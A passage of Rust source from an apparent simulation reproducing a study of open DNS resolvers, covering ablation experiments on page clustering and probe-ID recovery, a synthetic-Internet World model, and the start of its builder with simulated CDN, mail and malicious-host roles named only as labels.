    let mut interner = TagInterner::new();
    let mut items: Vec<(usize, PageFeatures)> = Vec::new();
    for s in 0..10u64 {
        for (family, html) in [
            (
                0usize,
                gen::legit_site(SiteCategory::Banking, &PageCtx::new("bank.example", s)),
            ),
            (1, gen::http_error(404, &PageCtx::new("e.example", s))),
            (
                2,
                gen::parking_page("parkco", &PageCtx::new(&format!("d{s}.example"), s)),
            ),
            (
                3,
                gen::phishing_kit_images("paypal", &PageCtx::new("paypal.example", s)),
            ),
            (
                4,
                gen::router_login(gen::RouterVendor::ZyRouter, &PageCtx::new("r.local", s)),
            ),
        ] {
            items.push((family, PageFeatures::extract(&html, &mut interner)));
        }
    }
    let separation = |items: &[(usize, PageFeatures)], weights: &FeatureWeights| -> f64 {
        use htmlsim::distance::page_distance;
        let mut max_within: f64 = 0.0;
        let mut min_cross = f64::INFINITY;
        for i in 0..items.len() {
            for j in (i + 1)..items.len() {
                let d = page_distance(&items[i].1, &items[j].1, weights);
                if items[i].0 == items[j].0 {
                    max_within = max_within.max(d);
                } else {
                    min_cross = min_cross.min(d);
                }
            }
        }
        if max_within == 0.0 {
            f64::INFINITY
        } else {
            min_cross / max_within
        }
    };
    let _ = writeln!(
        out,
        "A-ABL1a — coarse family separation (cross/within; >1 = separable):"
    );
    let _ = writeln!(
        out,
        "  all 7 features : {:.2}",
        separation(&items, &FeatureWeights::default())
    );
    for f in [
        "body_len",
        "tag_multiset",
        "tag_sequence",
        "title",
        "javascript",
        "resources",
        "links",
    ] {
        let _ = writeln!(
            out,
            "  without {f:<13}: {:.2}",
            separation(&items, &FeatureWeights::without(f))
        );
    }

    // ---- A-ABL1b: why the fine-grained stage exists ----
    // Small *modifications* of one page (ad banner vs script injection)
    // are NOT separable by the coarse distance — within-family noise
    // (dynamic content across fetches) dwarfs the injected tag — but the
    // diff-based tag-delta clustering recovers them exactly (Sec. 3.6).
    {
        use htmlsim::diff::tag_delta;
        let mut mod_items: Vec<(usize, PageFeatures)> = Vec::new();
        let mut deltas: Vec<(usize, htmlsim::diff::TagDelta)> = Vec::new();
        for s in 0..10u64 {
            let news = gen::legit_site(SiteCategory::Alexa, &PageCtx::new("news.example", s));
            let banner = gen::inject_ad(&news, "ads.rogue.example");
            let script = gen::inject_script(&news, "js.rogue.example");
            let gt = PageFeatures::extract(&news, &mut interner);
            for (family, html) in [(0usize, banner), (1, script)] {
                let f = PageFeatures::extract(&html, &mut interner);
                deltas.push((family, tag_delta(&gt.tag_sequence, &f.tag_sequence)));
                mod_items.push((family, f));
            }
        }
        let coarse = separation(&mod_items, &FeatureWeights::default());
        let flat = classify::fine_cluster(
            &deltas.iter().map(|(_, d)| d.clone()).collect::<Vec<_>>(),
            0.3,
        );
        let mut correct = 0usize;
        for members in &flat.clusters {
            let mut counts = std::collections::HashMap::new();
            for &m in members {
                *counts.entry(deltas[m].0).or_insert(0usize) += 1;
            }
            correct += counts.values().max().copied().unwrap_or(0);
        }
        let _ = writeln!(
            out,
            "\nA-ABL1b — small modifications (banner vs script injection):"
        );
        let _ = writeln!(
            out,
            "  coarse separation ratio: {coarse:.2} (<1: coarse clustering cannot split them)"
        );
        let _ = writeln!(
            out,
            "  fine tag-delta clustering: {} clusters, purity {:.3}",
            flat.len(),
            correct as f64 / deltas.len() as f64
        );
    }

    // ---- A-ABL3: prefilter stages ----
    // Measure unexpected-rate on a CDN-heavy domain with AS-only vs
    // AS+cert, using the real pipeline at tiny scale.
    {
        let mut world = worldgen::build_world(WorldConfig {
            scale: (cfg.scale / 5.0).max(0.0001),
            ..cfg.clone()
        });
        let opts = crate::pipeline::AnalysisOptions {
            domains: Some(vec![
                "wikipedia.example".into(), // CDN domain, never censored
                "gt.gwild.example".into(),
            ]),
            ..Default::default()
        };
        let analysis = crate::pipeline::run_analysis(&mut world, &opts);
        let alexa = &analysis.per_category["Alexa"];
        let _ = writeln!(
            out,
            "\nA-ABL3 — CDN domain (wikipedia.example) prefiltering:"
        );
        let _ = writeln!(
            out,
            "  responses {}  legit(DNS stage) {}  cert-rescued {}  unexpected-after-cert {}",
            alexa.responses, alexa.legit, alexa.cert_rescued, alexa.unexpected
        );
        let _ = writeln!(
            out,
            "  (without the certificate stage, every non-home-region CDN answer would stay suspicious)"
        );
    }

    // ---- A-ABL4: identifier channels under port rewriting ----
    {
        use dnswire::{Message, MessageBuilder, Rcode, RecordType};
        let mut ok_with_casing = 0;
        let mut ok_txid_only = 0;
        let trials = 4_096u32;
        for i in 0..trials {
            let id = (i * 8191 + 5) % (1 << 25); // spread across the 25-bit space
            let p = scanner::encode_probe(id % (1 << 25), "bet-at-home.example");
            let q = MessageBuilder::query(p.txid, p.qname.clone(), RecordType::A).build();
            let resp = MessageBuilder::response_to(&q, Rcode::NoError).build();
            let wire = resp.encode();
            let resp = Message::decode(&wire).unwrap();
            // Port rewritten: arrival offset is useless.
            if scanner::decode_probe(&resp, None) == Some(id % (1 << 25)) {
                ok_with_casing += 1;
            }
            // TXID-only decoder (high bits unrecoverable).
            // A TXID-only decoder can recover at most the low 16 bits;
            // the full identifier is unrecoverable unless it happens to
            // fit in them.
            if id < 0x10000 {
                ok_txid_only += 1;
            }
        }
        let _ = writeln!(
            out,
            "\nA-ABL4 — resolver-ID recovery under response-port rewriting:"
        );
        let _ = writeln!(
            out,
            "  TXID+0x20 casing: {ok_with_casing}/{trials}   TXID only: {ok_txid_only}/{trials}"
        );
    }

    // ---- A-ABL2: linkage comparison (average vs single vs complete) ----
    let _ = writeln!(
        out,
        "\nA-ABL2 — linkage criterion vs cluster purity and count:"
    );
    for linkage in [
        classify::Linkage::Average,
        classify::Linkage::Single,
        classify::Linkage::Complete,
    ] {
        for threshold in [0.2, 0.32, 0.45] {
            let features: Vec<PageFeatures> = items.iter().map(|(_, f)| f.clone()).collect();
            let flat = classify::cluster_pages_with(
                &features,
                &FeatureWeights::default(),
                threshold,
                linkage,
            );
            let mut correct = 0usize;
            for members in &flat.clusters {
                let mut counts = std::collections::HashMap::new();
                for &m in members {
                    *counts.entry(items[m].0).or_insert(0usize) += 1;
                }
                correct += counts.values().max().copied().unwrap_or(0);
            }
            let _ = writeln!(
                out,
                "  {linkage:?} cut {threshold:>4}: {:>2} clusters, purity {:.3}",
                flat.len(),
                correct as f64 / items.len() as f64
            );
        }
    }
    out
}
