//! The assembled [`World`] and its evolution over the study year.

use crate::catalog::DomainCatalog;
use crate::plan::{BehaviorKind, ChurnClass, DeviceClassPlan, WorldConfig};
use geodb::{Country, GeoDb, RdnsDb};
use netsim::{HostId, LeasePool, Network, SimTime};
use resolversim::DnsUniverse;
use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

/// Response class a resolver exhibits in the weekly enumeration scan
/// (Figure 1's series).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum ResponseClass {
    /// Answers enumeration probes with NOERROR.
    NoError,
    /// Answers with REFUSED.
    Refused,
    /// Answers with SERVFAIL.
    ServFail,
}

use serde::{Deserialize, Serialize};

/// Ground-truth record for one resolver — what the generator decided.
/// The measurement pipeline never reads this; experiments use it to
/// validate recovered distributions.
#[derive(Debug, Clone)]
pub struct ResolverMeta {
    /// Simulator host handle.
    pub host: HostId,
    /// Country the resolver lives in.
    pub country: Country,
    /// Originating AS number.
    pub asn: u32,
    /// Planted DNS behaviour.
    pub behavior: BehaviorKind,
    /// Figure 1 response class.
    pub response_class: ResponseClass,
    /// IP churn class (Figure 2).
    pub churn: ChurnClass,
    /// TCP device template, if the host exposes TCP services.
    pub device: Option<DeviceClassPlan>,
    /// `"BIND 9.8.2"`-style key if the CHAOS scan can learn it.
    pub software_key: String,
    /// Whether CHAOS queries reveal the genuine version.
    pub chaos_genuine: bool,
    /// Week the resolver first appears (0 = present at study start).
    pub spawn_week: u32,
    /// Week the resolver permanently disappears, if any.
    pub retire_week: Option<u32>,
    /// Address at world-build time (changes with churn).
    pub initial_ip: Ipv4Addr,
    /// Liveness flag shared with the simulated host.
    pub alive: Arc<AtomicBool>,
}

/// Index of the special-purpose infrastructure the generator placed —
/// the oracle against which classification output is validated.
#[derive(Debug, Clone)]
pub struct InfraIndex {
    /// Censorship landing pages per country code.
    pub landing_ips: BTreeMap<String, Vec<Ipv4Addr>>,
    /// Domain-parking landers.
    pub parking_ips: Vec<Ipv4Addr>,
    /// Search-engine redirect targets.
    pub search_ips: Vec<Ipv4Addr>,
    /// HTTP-error-only hosts.
    pub error_ips: Vec<Ipv4Addr>,
    /// Captive-portal login hosts.
    pub portal_ips: Vec<Ipv4Addr>,
    /// Unrelated static sites used by StaticMisc redirectors.
    pub misc_site_ips: Vec<Ipv4Addr>,
    /// Security/parental blocking pages.
    pub blockpage_ips: Vec<Ipv4Addr>,
    /// TLS-capable transparent proxies.
    pub proxy_tls_ips: Vec<Ipv4Addr>,
    /// HTTP-only transparent proxies.
    pub proxy_http_ips: Vec<Ipv4Addr>,
    /// Phishing kits and bank clones.
    pub phish_ips: Vec<Ipv4Addr>,
    /// Ad hosts substituting banner creatives.
    pub ad_banner_ips: Vec<Ipv4Addr>,
    /// Ad hosts injecting scripts.
    pub ad_script_ips: Vec<Ipv4Addr>,
    /// Ad hosts serving blank creatives.
    pub ad_blank_ips: Vec<Ipv4Addr>,
    /// Ad-laden fake search engines.
    pub ad_fake_search_ips: Vec<Ipv4Addr>,
    /// Legitimate mail-provider hosts per MX hostname.
    pub mail_legit_ips: BTreeMap<String, Vec<Ipv4Addr>>,
    /// Banner-mimicking mail interception relays.
    pub mail_intercept_ips: Vec<Ipv4Addr>,
    /// Full mail-provider clones.
    pub mail_clone_ips: Vec<Ipv4Addr>,
    /// Fake Flash/Java update droppers.
    pub malware_update_ips: Vec<Ipv4Addr>,
    /// Default-certificate common names of the modelled CDN providers —
    /// the whitelist the prefilter's certificate stage uses (Sec. 3.4).
    pub cdn_default_cns: Vec<String>,
    /// The measurement AuthNS answering the scan zone.
    pub authns_ip: Ipv4Addr,
    /// Oracle: legitimate IPs per catalog domain.
    pub legit_ips: BTreeMap<String, Vec<Ipv4Addr>>,
}

impl Default for InfraIndex {
    fn default() -> Self {
        InfraIndex {
            landing_ips: BTreeMap::new(),
            parking_ips: Vec::new(),
            search_ips: Vec::new(),
            error_ips: Vec::new(),
            portal_ips: Vec::new(),
            misc_site_ips: Vec::new(),
            blockpage_ips: Vec::new(),
            proxy_tls_ips: Vec::new(),
            proxy_http_ips: Vec::new(),
            phish_ips: Vec::new(),
            ad_banner_ips: Vec::new(),
            ad_script_ips: Vec::new(),
            ad_blank_ips: Vec::new(),
            ad_fake_search_ips: Vec::new(),
            mail_legit_ips: BTreeMap::new(),
            mail_intercept_ips: Vec::new(),
            mail_clone_ips: Vec::new(),
            malware_update_ips: Vec::new(),
            cdn_default_cns: Vec::new(),
            authns_ip: Ipv4Addr::UNSPECIFIED,
            legit_ips: BTreeMap::new(),
        }
    }
}

/// Aggregate world statistics (cheap to compute, used by reports).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct WorldStats {
    /// Total resolvers placed (all response classes).
    pub resolvers: usize,
    /// Total web/mail/infrastructure hosts placed.
    pub web_hosts: usize,
    /// DHCP lease pools created.
    pub pools: usize,
    /// Countries with at least one resolver.
    pub countries: usize,
}

/// The populated, evolving Internet.
pub struct World {
    /// The configuration the world was built from.
    pub cfg: WorldConfig,
    /// The packet-level simulator.
    pub net: Network,
    /// Authoritative DNS data.
    pub universe: Arc<DnsUniverse>,
    /// IP-to-country/AS database.
    pub geo: GeoDb,
    /// Reverse-DNS database.
    pub rdns: RdnsDb,
    /// The scanned-domain catalog.
    pub catalog: DomainCatalog,
    /// Ground-truth record per resolver.
    pub resolvers: Vec<ResolverMeta>,
    /// Oracle index of planted infrastructure.
    pub infra: InfraIndex,
    /// Aggregate counts.
    pub stats: WorldStats,
    pub(crate) pools: Vec<LeasePool>,
    /// Allocated address ranges — the scannable universe.
    pub(crate) allocated: Vec<(Ipv4Addr, Ipv4Addr)>,
    /// Opt-out blacklist (Sec. 2.2): ranges and single addresses whose
    /// operators asked to be excluded from scanning.
    pub blacklist_ranges: Vec<(Ipv4Addr, Ipv4Addr)>,
    /// Opt-out blacklist: individual addresses.
    pub blacklist_singles: Vec<Ipv4Addr>,
    /// ASes that become unreachable to *every* outside observer at a
    /// given week (full inbound border filtering — the AR/KR events).
    pub border_filtered_asns: Vec<(u32, u32)>,
    /// Measurement vantage points (distinct /8s, Sec. 2.2).
    pub scanner_ip: Ipv4Addr,
    /// Second vantage point (dual-vantage verification).
    pub scanner2_ip: Ipv4Addr,
    current: SimTime,
}

impl World {
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn new_raw(
        cfg: WorldConfig,
        net: Network,
        universe: Arc<DnsUniverse>,
        geo: GeoDb,
        rdns: RdnsDb,
        catalog: DomainCatalog,
        resolvers: Vec<ResolverMeta>,
        infra: InfraIndex,
        pools: Vec<LeasePool>,
        allocated: Vec<(Ipv4Addr, Ipv4Addr)>,
        scanner_ip: Ipv4Addr,
        scanner2_ip: Ipv4Addr,
        stats: WorldStats,
        blacklist_ranges: Vec<(Ipv4Addr, Ipv4Addr)>,
        blacklist_singles: Vec<Ipv4Addr>,
    ) -> Self {
        World {
            cfg,
            net,
            universe,
            geo,
            rdns,
            catalog,
            resolvers,
            infra,
            stats,
            pools,
            allocated,
            blacklist_ranges,
            blacklist_singles,
            border_filtered_asns: Vec::new(),
            scanner_ip,
            scanner2_ip,
            current: SimTime::ZERO,
        }
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.current
    }

    /// Every allocated address range, for space-bounded scanning.
    pub fn scannable_ranges(&self) -> &[(Ipv4Addr, Ipv4Addr)] {
        &self.allocated
    }

    /// Total number of scannable addresses.
    pub fn scannable_size(&self) -> u64 {
        self.allocated
            .iter()
            .map(|(a, b)| (u32::from(*b) - u32::from(*a) + 1) as u64)
            .sum()
    }

    /// Advance simulated time, renumbering DHCP pools at *absolute*
    /// 6-hour boundaries (multiples of 6h since epoch) and firing
    /// spawn/retire lifecycle events at week boundaries.
    ///
    /// The lease grid being absolute — not relative to wherever the
    /// previous campaign left the clock — is what makes pool
    /// renumbering canonical: any subset of scheduled campaigns sees
    /// renumbering happen at the same simulated instants, consuming
    /// the pool RNG in the same order, so IP assignments are identical
    /// whether one campaign runs or all of them do.
    pub fn advance_to(&mut self, target: SimTime) {
        const STEP: u64 = 6 * SimTime::HOUR;
        // Campaigns may have pushed the network clock forward without
        // going through us; catch up first so leases stay consistent.
        self.current = self.current.max(self.net.now());
        while self.current < target {
            let boundary = SimTime((self.current.millis() / STEP + 1) * STEP);
            let next = boundary.min(target);
            // Week-boundary lifecycle events.
            let week_before = self.current.weeks();
            let week_after = next.weeks();
            if week_after > week_before || self.current == SimTime::ZERO {
                for w in (week_before + 1)..=week_after {
                    self.fire_week_events(w as u32);
                }
            }
            self.net.run_until(next);
            // Renumber only on the absolute grid: stopping at an
            // arbitrary campaign anchor must not perturb lease timing.
            if next == boundary {
                for pool in &mut self.pools {
                    pool.renumber_expired(&mut self.net, next);
                }
            }
            self.current = next;
        }
    }

    /// Advance to the start of scan week `w` (scans run weekly from
    /// week 0).
    pub fn advance_to_week(&mut self, w: u32) {
        self.advance_to(SimTime::from_weeks(w as u64));
    }

    fn fire_week_events(&mut self, week: u32) {
        for meta in &self.resolvers {
            if meta.spawn_week == week {
                meta.alive.store(true, Ordering::Relaxed);
            }
            if meta.retire_week == Some(week) {
                meta.alive.store(false, Ordering::Relaxed);
            }
        }
    }

    /// The current IP of a resolver (follows pool renumbering).
    pub fn resolver_ip(&self, meta: &ResolverMeta) -> Option<Ipv4Addr> {
        let ips = self.net.ips_of(meta.host);
        ips.first().copied()
    }

    /// Count of currently alive resolvers per response class (ground
    /// truth for Figure 1 validation).
    pub fn alive_counts(&self) -> BTreeMap<ResponseClass, usize> {
        let mut out = BTreeMap::new();
        for m in &self.resolvers {
            if m.alive.load(Ordering::Relaxed) {
                *out.entry(m.response_class).or_insert(0) += 1;
            }
        }
        out
    }

    /// One-shot index of every resolver's current responder state,
    /// keyed by host — built once per coverage computation so
    /// per-target lookups stay O(1) (`net.host_at` + one hash probe)
    /// instead of scanning the resolver table per address.
    pub fn responder_index(&self) -> std::collections::HashMap<netsim::HostId, ResponderState> {
        self.resolvers
            .iter()
            .map(|m| {
                (
                    m.host,
                    ResponderState {
                        class: m.response_class,
                        alive: m.alive.load(Ordering::Relaxed),
                        asn: m.asn,
                    },
                )
            })
            .collect()
    }
}

/// Snapshot of one resolver's liveness for coverage accounting.
#[derive(Debug, Clone, Copy)]
pub struct ResponderState {
    /// Enumeration response class.
    pub class: ResponseClass,
    /// Whether the resolver is currently alive.
    pub alive: bool,
    /// Originating AS (for border-filter checks).
    pub asn: u32,
}

impl std::fmt::Debug for World {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("World")
            .field("resolvers", &self.resolvers.len())
            .field("scannable", &self.scannable_size())
            .field("now", &self.current)
            .finish()
    }
}
