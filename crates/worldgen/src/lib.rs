//! # worldgen — the synthetic Internet of the *Going Wild* reproduction
//!
//! This crate turns the paper's published measurements into a generative
//! model: a [`WorldConfig`] (seed + scale) deterministically expands into
//! a [`World`] — a populated [`netsim::Network`] whose resolver fleet
//! matches the paper's distributions:
//!
//! * country populations and their 55-week fluctuation (Tables 1–2,
//!   Figure 1), including the two dramatic ISP events (an Argentinean
//!   telco at −97.8% and a South Korean ISP at −99.99%) and scanner-only
//!   blacklisting by 21 networks;
//! * DNS software and CHAOS answer mix (Table 3), device/OS classes and
//!   TCP exposure (Table 4);
//! * DHCP churn classes reproducing Figure 2's decay curve, with
//!   dynamic-token rDNS on consumer pools (Sec. 2.5);
//! * cache/utilization profiles for the snooping campaign (Sec. 2.6);
//! * the full bogus-resolution ecology: censorship (34 countries, GFW
//!   injection for CN), NXDOMAIN monetization, static/self/LAN
//!   redirectors, ad manipulation, transparent proxies, phishing, mail
//!   interception, malware droppers, parking (Secs. 3–4);
//! * the 155-domain catalog in 13 categories plus the ground-truth
//!   domain and the scanner's wildcard zone (Sec. 3.2).
//!
//! Everything is a pure function of `(seed, scale)`; the measurement
//! pipeline must then *recover* these distributions without peeking —
//! the ground-truth metadata ([`ResolverMeta`]) is exposed only for
//! validation.

pub mod builder;
pub mod catalog;
pub mod plan;
pub mod world;

pub use builder::build_world;
pub use catalog::{CatalogDomain, DomainCatalog};
pub use plan::{BehaviorKind, ChurnClass, CountryPlan, WorldConfig, COUNTRY_PLANS};
pub use world::{ResolverMeta, World, WorldStats};
