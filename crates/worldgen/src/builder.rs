//! World assembly: expand a [`WorldConfig`] into a populated [`World`].

use crate::catalog::DomainCatalog;
use crate::plan::*;
use crate::world::{InfraIndex, ResolverMeta, ResponseClass, World, WorldStats};
use geodb::{AsInfo, Country, GeoDb, IpRangeMap, RdnsDb, RdnsPattern, Rir};
use netsim::{ChurnConfig, FilterDirection, HostId, LeasePool, Network, NetworkConfig, SimTime};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use resolversim::software::{
    ChaosErrorKind, CUSTOM_STRINGS, PAPER_CHAOS_MIX, TABLE3_SOFTWARE, TAIL_SOFTWARE,
};
use resolversim::universe::TldInfo;
use resolversim::webhost::{AdMode, MailBanners};
use resolversim::{
    CacheProfile, CensorPolicy, CensorRule, ChaosPolicy, DeviceClass, DeviceOs, DeviceProfile,
    DnsUniverse, DomainCategory, DomainKind, DomainRecord, ForwarderHost, GreatFirewall,
    ResolverBehavior, ResolverHost, SoftwareProfile, TldCacheSim, WebHost, WebRole,
};
use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;
use std::sync::atomic::AtomicBool;
use std::sync::Arc;

/// Address-block allocator over non-reserved space, skipping the
/// measurement /8s.
struct Allocator {
    next: u32,
    allocated: Vec<(Ipv4Addr, Ipv4Addr)>,
}

/// The two measurement /8s (primary and verification vantage).
const SCANNER_SLASH8: (u32, u32) = (0x62_00_00_00, 0x62_FF_FF_FF); // 98.0.0.0/8
const SCANNER2_SLASH8: (u32, u32) = (0x63_00_00_00, 0x63_FF_FF_FF); // 99.0.0.0/8

impl Allocator {
    fn new() -> Self {
        Allocator {
            next: 0x0B00_0000, // 11.0.0.0
            allocated: Vec::new(),
        }
    }

    fn skip_conflicts(&mut self, size: u32) {
        loop {
            let start = self.next;
            let end = start.saturating_add(size - 1);
            let conflict = geodb::RESERVED_RANGES
                .iter()
                .chain([&SCANNER_SLASH8, &SCANNER2_SLASH8])
                .find(|&&(lo, hi)| start <= hi && end >= lo);
            match conflict {
                Some(&(_, hi)) => self.next = hi + 1,
                None => break,
            }
        }
    }

    /// Allocate a contiguous block of `size` addresses.
    fn block(&mut self, size: u32) -> (Ipv4Addr, Ipv4Addr) {
        assert!(size > 0);
        self.skip_conflicts(size);
        let start = self.next;
        let end = start + size - 1;
        self.next = end + 1;
        let range = (Ipv4Addr::from(start), Ipv4Addr::from(end));
        self.allocated.push(range);
        range
    }

    /// Allocate a single address.
    fn one(&mut self) -> Ipv4Addr {
        self.block(1).0
    }
}

fn ips_of_block(range: (Ipv4Addr, Ipv4Addr)) -> Vec<Ipv4Addr> {
    (u32::from(range.0)..=u32::from(range.1))
        .map(Ipv4Addr::from)
        .collect()
}

/// Deterministic sub-seed derivation.
fn subseed(seed: u64, tag: u64) -> u64 {
    let mut z = seed ^ tag.wrapping_mul(0x9e3779b97f4a7c15);
    z ^= z >> 33;
    z = z.wrapping_mul(0xff51afd7ed558ccd);
    z ^ (z >> 33)
}

/// Build the world. Pure function of `cfg`.
pub fn build_world(cfg: WorldConfig) -> World {
    let mut sp = telemetry::span("worldgen.build", 0);
    sp.attr("seed", cfg.seed);
    sp.attr("scale", cfg.scale);
    let catalog = DomainCatalog::standard();
    let mut net = Network::new(NetworkConfig {
        seed: subseed(cfg.seed, 2),
        udp_loss: cfg.udp_loss,
        latency_ms: (8, 120),
        tcp_loss: 0.002,
    });
    let mut alloc = Allocator::new();
    let mut universe = DnsUniverse::new();
    let mut infra = InfraIndex::default();
    let mut geo_builder = IpRangeMap::<geodb::NetBlock>::builder();
    let mut rdns_builder = IpRangeMap::<RdnsPattern>::builder();
    let mut rdns_overrides: Vec<(Ipv4Addr, String)> = Vec::new();
    let mut ases: Vec<AsInfo> = Vec::new();
    let mut next_asn = 1000u32;
    let mut web_hosts = 0usize;

    // ---- TLDs for cache snooping (Sec. 2.6's 15 TLDs) ----
    let tlds = [
        "br", "cn", "co.uk", "com", "de", "fr", "in", "info", "it", "jp", "net", "nl", "org", "pl",
        "ru",
    ];
    universe.set_tlds(
        tlds.iter()
            .map(|t| TldInfo {
                name: t.to_string(),
                ns_host: format!("a.nic.{t}"),
                ttl: 3600 + (subseed(cfg.seed, t.len() as u64) % 7200) as u32,
            })
            .collect(),
    );

    // =================================================================
    // Infrastructure: hosting, CDN, mail, special-purpose hosts.
    // =================================================================

    // A hosting AS (US) for origin servers and the measurement AuthNS.
    let hosting_asn = next_asn;
    next_asn += 10;
    ases.push(AsInfo {
        asn: hosting_asn,
        name: "US-HOSTCO".into(),
        country: Country::new("US"),
        broadband: false,
    });
    let hosting_block = alloc.block(2048);
    geo_builder
        .insert(
            hosting_block.0,
            hosting_block.1,
            geodb::NetBlock {
                country: Country::new("US"),
                asn: hosting_asn,
                rdns: Some(RdnsPattern::static_host("hostco.example")),
            },
        )
        .expect("hosting block");
    let mut hosting_ips = ips_of_block(hosting_block).into_iter();
    let mut next_hosting_ip = move || hosting_ips.next().expect("hosting space exhausted");

    // Measurement AuthNS (answers the scan zone and the GT domain).
    let authns_ip = next_hosting_ip();
    infra.authns_ip = authns_ip;
    universe.add_wildcard(&catalog.scan_zone, vec![authns_ip], 5);

    // Ground-truth domain: ordinary site on hosting.
    let gt_ip = next_hosting_ip();
    {
        let host = net.add_host(Box::new(WebHost::new(
            WebRole::LegitSite {
                domain: catalog.ground_truth.clone(),
                category: DomainCategory::GroundTruth,
            },
            subseed(cfg.seed, 3),
        )));
        net.bind_ip(gt_ip, host);
        web_hosts += 1;
        universe.add_domain(DomainRecord {
            name: catalog.ground_truth.clone(),
            category: DomainCategory::GroundTruth,
            kind: DomainKind::Fixed(vec![gt_ip]),
            ttl: 300,
            is_mail_host: false,
        });
        rdns_overrides.push((gt_ip, catalog.ground_truth.clone()));
        infra
            .legit_ips
            .insert(catalog.ground_truth.clone(), vec![gt_ip]);
    }

    // ---- CDN providers ----
    // Two providers, edges in five regions; SNI-less requests present
    // the provider default certificate (whitelisted by the prefilter).
    let cdn_domains: Vec<(String, DomainCategory)> = catalog
        .domains
        .iter()
        .filter(|d| d.cdn)
        .map(|d| (d.name.clone(), d.category))
        .collect();
    let providers = ["cdnone", "cdntwo"];
    let mut cdn_pools: BTreeMap<(usize, Rir), Vec<Ipv4Addr>> = BTreeMap::new();
    for (pi, provider) in providers.iter().enumerate() {
        infra
            .cdn_default_cns
            .push(format!("edge.{provider}.example"));
        let hosted: Arc<Vec<(String, DomainCategory)>> = Arc::new(
            cdn_domains
                .iter()
                .filter(|(name, _)| cdn_provider_of(name, providers.len()) == pi)
                .cloned()
                .collect(),
        );
        for (region, cc) in [
            (Rir::Arin, "US"),
            (Rir::Ripe, "DE"),
            (Rir::Apnic, "JP"),
            (Rir::Lacnic, "BR"),
            (Rir::Afrinic, "ZA"),
        ] {
            let edge_asn = next_asn;
            next_asn += 1;
            ases.push(AsInfo {
                asn: edge_asn,
                name: format!("{}-{}", provider.to_uppercase(), region.name()),
                country: Country::new(cc),
                broadband: false,
            });
            let block = alloc.block(8);
            geo_builder
                .insert(
                    block.0,
                    block.1,
                    geodb::NetBlock {
                        country: Country::new(cc),
                        asn: edge_asn,
                        rdns: Some(RdnsPattern::Fixed {
                            name: format!("edge.{provider}.example"),
                        }),
                    },
                )
                .expect("cdn block");
            let ips = ips_of_block(block);
            for (k, &ip) in ips.iter().take(3).enumerate() {
                // One edge kept disabled to model outdated CDN IPs.
                let role = if k == 2 && region == Rir::Afrinic && pi == 1 {
                    WebRole::DisabledEdge
                } else {
                    WebRole::CdnEdge {
                        provider: provider.to_string(),
                        hosted: hosted.clone(),
                    }
                };
                let host = net.add_host(Box::new(WebHost::new(
                    role,
                    subseed(cfg.seed, 50 + ip_hash(ip)),
                )));
                net.bind_ip(ip, host);
                web_hosts += 1;
            }
            cdn_pools.insert((pi, region), ips.into_iter().take(3).collect());
        }
    }

    // ---- Mail providers ----
    let mail_providers = ["gmail", "outlook", "yahoo", "yandex", "aim", "mailme"];
    let mut provider_mail_ips: BTreeMap<&str, Vec<Ipv4Addr>> = BTreeMap::new();
    for p in mail_providers {
        let mut ips = Vec::new();
        for _ in 0..2 {
            let ip = next_hosting_ip();
            let host = net.add_host(Box::new(WebHost::new(
                WebRole::MailServer {
                    banners: MailBanners::provider(&format!("{p}.example")),
                },
                subseed(cfg.seed, 60 + ip_hash(ip)),
            )));
            net.bind_ip(ip, host);
            web_hosts += 1;
            rdns_overrides.push((ip, format!("mx.{p}.example")));
            ips.push(ip);
        }
        infra.mail_legit_ips.insert(p.to_string(), ips.clone());
        provider_mail_ips.insert(p, ips);
    }

    // ---- Catalog domains: origins and records ----
    for d in &catalog.domains {
        if !d.exists {
            universe.add_domain(DomainRecord {
                name: d.name.clone(),
                category: d.category,
                kind: DomainKind::NonExistent,
                ttl: 0,
                is_mail_host: false,
            });
            continue;
        }
        if d.is_mail_host {
            // mail hostnames point at their provider's mail IPs.
            let provider = mail_providers
                .iter()
                .find(|p| d.name.contains(&format!(".{p}.")))
                .copied()
                .unwrap_or("gmail");
            let ips = provider_mail_ips[provider].clone();
            universe.add_domain(DomainRecord {
                name: d.name.clone(),
                category: d.category,
                kind: DomainKind::Fixed(ips.clone()),
                ttl: 300,
                is_mail_host: true,
            });
            infra.legit_ips.insert(d.name.clone(), ips);
            continue;
        }
        if d.cdn {
            let pi = cdn_provider_of(&d.name, providers.len());
            let pools: Vec<(Rir, Vec<Ipv4Addr>)> =
                [Rir::Arin, Rir::Ripe, Rir::Apnic, Rir::Lacnic, Rir::Afrinic]
                    .iter()
                    .map(|r| (*r, cdn_pools[&(pi, *r)].clone()))
                    .collect();
            let all: Vec<Ipv4Addr> = pools.iter().flat_map(|(_, v)| v.iter().copied()).collect();
            universe.add_domain(DomainRecord {
                name: d.name.clone(),
                category: d.category,
                kind: DomainKind::Cdn { pools },
                ttl: 60,
                is_mail_host: false,
            });
            infra.legit_ips.insert(d.name.clone(), all);
            continue;
        }
        // Plain origin on hosting: 1–2 addresses.
        let mut ips = vec![next_hosting_ip()];
        if domain_hash(&d.name).is_multiple_of(3) {
            ips.push(next_hosting_ip());
        }
        let host = net.add_host(Box::new(WebHost::new(
            WebRole::LegitSite {
                domain: d.name.clone(),
                category: d.category,
            },
            subseed(cfg.seed, 70 + domain_hash(&d.name)),
        )));
        for &ip in &ips {
            net.bind_ip(ip, host);
            rdns_overrides.push((ip, d.name.clone()));
        }
        web_hosts += 1;
        universe.add_domain(DomainRecord {
            name: d.name.clone(),
            category: d.category,
            kind: DomainKind::Fixed(ips.clone()),
            ttl: 300,
            is_mail_host: false,
        });
        infra.legit_ips.insert(d.name.clone(), ips);
    }

    // ---- Special-purpose host groups ----
    let spawn_group = |net: &mut Network,
                       alloc: &mut Allocator,
                       count: usize,
                       mut role_for: Box<dyn FnMut(usize) -> WebRole>,
                       seed_tag: u64|
     -> Vec<Ipv4Addr> {
        let mut out = Vec::with_capacity(count);
        for i in 0..count {
            let ip = alloc.one();
            let host = net.add_host(Box::new(WebHost::new(
                role_for(i),
